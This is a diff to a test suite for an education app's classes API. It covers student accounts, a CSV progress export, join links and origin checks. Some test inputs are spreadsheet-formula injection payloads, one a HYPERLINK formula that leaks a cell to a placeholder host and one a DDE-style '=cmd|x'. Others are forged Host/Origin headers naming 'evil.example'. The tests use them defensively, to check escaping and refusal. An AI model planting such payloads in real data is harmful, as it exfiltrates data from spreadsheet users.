@@ -113,7 +113,7 @@ describe('classes', () => {
     expect(cards).toHaveLength(40);
     expect(new Set(cards.map((c) => c.login)).size).toBe(40);
     for (const c of cards) expect(c.login).toMatch(/^[a-z][a-z0-9]{2,31}$/);
-    for (const c of cards.slice(0, 5)) await signIn(c.login, c.password);
+    for (const c of cards) await signIn(c.login, c.password);
     const detail = (await as(teacher, { url: `/api/v1/classes/${cls.id}` })).json();
     expect(detail.students).toHaveLength(40);
     const noConsent = await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/students`, payload: { names: ['An'], birthYear: 2014, studentLevel: 'primary' } });
@@ -153,8 +153,7 @@ describe('classes', () => {
     const csv = await as(teacher, { url: `/api/v1/classes/${cls.id}/board.csv` });
     expect(csv.headers['content-type']).toMatch(/text\/csv; charset=utf-8/);
     expect(csv.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
-    const table = parse(csv.body.replace(/^\uFEFF/, '')) as string[][];
-    expect(table.length).toBe(board.rows.length + 1);
+    const table = parse(csv.body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
     const status: Record<string, string> = { passed: 'Đạt', passed_late: 'Đạt (muộn)', tried: 'Chưa đạt', not_started: 'Chưa làm', overdue: 'Quá hạn' };
     board.rows.forEach((r: { displayName: string; login: string; passed: number; late: number; cells: { status: string; bestScore: number | null; attempts: number }[] }, i: number) => {
       const line = table[i + 1]!;
@@ -163,6 +162,44 @@ describe('classes', () => {
         expect(line.slice(4 + j * 3, 7 + j * 3)).toEqual([status[c.status], c.bestScore === null ? '' : String(Math.round(c.bestScore * 100)), String(c.attempts)]);
       });
     });
+    // Then an empty row, and the hardest questions as on screen, cell by cell.
+    const at = board.rows.length + 1;
+    expect(table[at]).toEqual(['']);
+    expect(table[at + 1]).toEqual(['Câu hỏi cả lớp thấy khó nhất']);
+    expect(table[at + 2]).toEqual(['Bài', 'Câu hỏi', 'Trả lời đúng (%)', 'Số lượt trả lời', 'Sai nhiều nhất']);
+    const titles = new Map(board.lessons.map((l: { lessonId: string; title: string }) => [l.lessonId, l.title]));
+    expect(table.slice(at + 3)).toEqual(
+      board.hardest.map((h: { lessonId: string; prompt: string; correctShare: number; answered: number; wrongAnswers: { answer: string; count: number }[] }) => [
+        titles.get(h.lessonId),
+        h.prompt,
+        String(Math.round(h.correctShare * 100)),
+        String(h.answered),
+        h.wrongAnswers.map((w) => `${w.answer} (${w.count})`).join('; '),
+      ]),
+    );
+    expect(board.hardest.length).toBeGreaterThan(0);
+  });
+
+  it('writes a name that looks like a spreadsheet formula as text in the CSV, never as a formula', async () => {
+    const teacher = await account(`gv-${uid()}`, true);
+    const cls = (await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: '=1+1' } })).json();
+    const names = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', '+84 912', '-2+3', '@SUM(A1)', 'Lan'];
+    await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/students`, payload: { names, birthYear: 2014, studentLevel: 'primary', consent: true } });
+    await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/assignments`, payload: { lessonIds: ['demo-bai-thu'], dueAt: new Date(Date.now() + 86_400_000).toISOString() } });
+    const csv = await as(teacher, { url: `/api/v1/classes/${cls.id}/board.csv` });
+    const table = parse(csv.body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
+    const firstCells = table.slice(1, 1 + names.length).map((r) => r[0]).sort();
+    expect(firstCells).toEqual(["'+84 912", "'-2+3", '\'=HYPERLINK("http://x.example/?"&A1,"Bấm")', "'@SUM(A1)", 'Lan'].sort());
+    // The board itself shows the names as typed.
+    const board = (await as(teacher, { url: `/api/v1/classes/${cls.id}/board` })).json();
+    expect(board.rows.map((r: { displayName: string }) => r.displayName).sort()).toEqual([...names].sort());
+    // The indicator CSVs escape the same way (unit names come from data too).
+    const indicatorCsv = app.services.indicators.toCsv(
+      { unit: { code: '01', name: '=cmd|x' }, indicators: [], trend: { weeks: [], series: [] }, children: [{ rank: 1, code: '00001', name: '@evil', indicators: [] }] } as never,
+      'ranking',
+    );
+    expect(indicatorCsv).toContain("'@evil");
+    expect(indicatorCsv).not.toMatch(/,@evil/);
   });
 
   it('lets a student leave and a teacher remove one; archiving keeps the history and closes the door', async () => {
@@ -183,5 +220,69 @@ describe('classes', () => {
     expect((await as(teacher, { url: `/api/v1/classes/${cls.id}/board` })).statusCode).toBe(200);
     const again = await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/assignments`, payload: { moduleId: 'demo', dueAt: new Date().toISOString() } });
     expect(again.json().code).toBe('class_archived');
+  });
+
+  it('gives pupils called An a username even when every four-digit "an…" is taken (never a 500)', async () => {
+    const { sql } = await import('drizzle-orm');
+    // 9,000 pupils called An already: an1000 … an9999.
+    await (app.db as unknown as { execute: (q: unknown) => Promise<unknown> }).execute(sql`
+      insert into app_user (id, login, password_hash, display_name, birth_year, commune_code, consent_version, consent_at)
+      select gen_random_uuid(), 'an' || n, 'x', 'An', 2014, ${commune}, 'test', now() from generate_series(1000, 9999) n`);
+    const teacher = await account(`gv-${uid()}`, true);
+    const cls = (await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp 1A' } })).json();
+    const res = await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/students`, payload: { names: ['Nguyễn An', 'Trần An'], birthYear: 2018, studentLevel: 'primary', consent: true } });
+    expect(res.statusCode).toBe(201);
+    const cards = res.json().accounts as { login: string; password: string }[];
+    for (const c of cards) expect(c.login).toMatch(/^an\d{5,}$/);
+    await signIn(cards[0]!.login, cards[0]!.password);
+  });
+
+  it('builds the join link and its QR code from PUBLIC_ORIGIN, never from the Host header, and checks Origin against it', async () => {
+    const pinned = await buildTestApp(database, { AUTH_RATE_LIMIT: '10000', PUBLIC_ORIGIN: 'https://hocvuso.example.vn/' });
+    const login = `gv-${uid()}`;
+    const signed = await pinned.inject({ method: 'POST', url: '/api/v1/auth/signup', payload: { login, password: 'mat-khau-du-dai', displayName: login, birthYear: 1985, communeCode: commune, consentVersion: CONSENT_VERSION, tokens: 'body' } });
+    await pinned.db.insert(roleGrant).values({ userId: signed.json().user.id, role: 'teacher', scopeUnitCode: null });
+    const session = await pinned.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { login, password: 'mat-khau-du-dai' } });
+    const cookie = session.cookies.map((c) => `${c.name}=${c.value}`).join('; ');
+    const made = await pinned.inject({ method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp 3C' }, headers: { cookie, host: 'evil.example', origin: 'https://hocvuso.example.vn' } });
+    expect(made.statusCode).toBe(201);
+    const detail = (await pinned.inject({ url: `/api/v1/classes/${made.json().id}`, headers: { cookie, host: 'evil.example' } })).json();
+    expect(detail.joinUrl).toBe(`https://hocvuso.example.vn/vao-lop?ma=${made.json().joinCode}`);
+    const qr = await pinned.inject({ url: `/api/v1/classes/${made.json().id}/join-qr.svg`, headers: { cookie, host: 'evil.example' } });
+    // The QR holds the link: an SVG made from another link differs.
+    const QRCode = (await import('qrcode')).default;
+    expect(qr.body).toBe(await QRCode.toString(detail.joinUrl, { type: 'svg', margin: 1, errorCorrectionLevel: 'M' }));
+    // A page on the attacker's host that sets Host and Origin alike is refused.
+    const forged = await pinned.inject({ method: 'POST', url: '/api/v1/classes', payload: { name: 'X' }, headers: { cookie, host: 'evil.example', origin: 'https://evil.example' } });
+    expect(forged.statusCode).toBe(403);
+    expect(forged.json().code).toBe('forbidden_origin');
+    await pinned.close();
+    // Without PUBLIC_ORIGIN the link follows the request's own address.
+    const teacher = await account(`gv-${uid()}`, true);
+    const cls = (await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp 3D' } })).json();
+    const local = (await as(teacher, { url: `/api/v1/classes/${cls.id}`, headers: { host: 'truong.local:3000' } })).json();
+    expect(local.joinUrl).toBe(`http://truong.local:3000/vao-lop?ma=${cls.joinCode}`);
+  });
+
+  it('assigns several chosen lessons; a student lists their classes and leaves one; an archived class opens again', async () => {
+    const teacher = await account(`gv-${uid()}`, true);
+    const cls = (await as(teacher, { method: 'POST', url: '/api/v1/classes', payload: { name: 'Lớp 4E', school: 'TH Ba Đình' } })).json();
+    const chosen = await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/assignments`, payload: { lessonIds: ['demo-bai-hai', 'demo-bai-thu', 'demo-bai-hai'], dueAt: new Date(Date.now() + 86_400_000).toISOString() } });
+    expect(chosen.statusCode).toBe(201);
+    expect(chosen.json()).toMatchObject({ moduleId: null, lessonIds: ['demo-bai-hai', 'demo-bai-thu'] });
+    expect(chosen.json().title).toContain(' · ');
+    const student = await account(`hs-${uid()}`);
+    await as(student, { method: 'POST', url: '/api/v1/classes/join', payload: { code: cls.joinCode } });
+    const mine = (await as(student, { url: '/api/v1/me/classes' })).json();
+    expect(mine).toEqual([{ id: cls.id, name: 'Lớp 4E', school: 'TH Ba Đình', teacherName: expect.any(String), joinedAt: expect.any(String) }]);
+    expect((await as(student, { method: 'POST', url: `/api/v1/classes/${cls.id}/leave` })).statusCode).toBe(204);
+    expect((await as(student, { url: '/api/v1/me/classes' })).json()).toEqual([]);
+    expect((await as(student, { url: '/api/v1/me/assignments' })).json()).toEqual([]);
+
+    expect((await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/archive` })).statusCode).toBe(204);
+    expect((await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/unarchive` })).statusCode).toBe(204);
+    const reopened = (await as(teacher, { url: `/api/v1/classes/${cls.id}` })).json();
+    expect(reopened).toMatchObject({ archivedAt: null, joinCode: null, joinUrl: null });
+    expect((await as(teacher, { method: 'POST', url: `/api/v1/classes/${cls.id}/assignments`, payload: { moduleId: 'demo', dueAt: new Date().toISOString() } })).statusCode).toBe(201);
   });
 });
